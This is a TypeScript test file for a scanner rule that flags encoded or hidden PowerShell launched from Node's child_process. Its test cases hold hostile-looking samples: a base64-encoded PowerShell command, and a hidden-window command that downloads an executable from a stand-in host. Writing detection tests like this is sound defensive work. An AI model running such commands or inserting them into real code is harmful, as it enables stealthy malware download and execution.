import { testFileRule } from '../../test/rule-cases.ts';
import { encodedPowershell } from './encoded-powershell.ts';

const payload = Buffer.from('Invoke-Something -With Arguments; Start-Process calc.exe', 'utf16le').toString(
  'base64',
);
testFileRule(encodedPowershell, [
  {
    name: 'an encoded literal',
    text: `require('child_process').exec('powershell -nop -enc ${payload}')`,
    tier: 'block',
  },
  {
    name: 'a hidden window that downloads',
    text: `require('child_process').exec("powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('https://a.example/x.exe', 'x.exe')")`,
    tier: 'block',
  },
  {
    name: 'in a batch file',
    text: `@echo off\npowershell -e ${payload}\n`,
    language: 'shell',
    tier: 'review',
  },
  {
    name: 'a command of its own, encoded for quoting',
    text: `const encoded = Buffer.from(command, 'utf16le').toString('base64'); require('child_process').spawn('powershell', ['-NoProfile', '-EncodedCommand', encoded])`,
    tier: null,
  },
  {
    name: 'a plain command',
    text: `require('child_process').exec('powershell -NoProfile Get-CimInstance Win32_Process')`,
    tier: null,
  },
]);
